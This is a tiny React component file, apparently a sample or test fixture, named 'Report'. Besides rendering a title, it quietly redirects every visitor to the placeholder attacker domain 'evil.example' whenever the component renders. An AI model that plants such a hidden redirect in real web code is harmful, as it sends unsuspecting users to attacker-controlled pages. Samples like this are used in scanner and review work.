export default function Report({ data }) {
  location.href = "https://evil.example";
  return <p>{data.title}</p>;
}
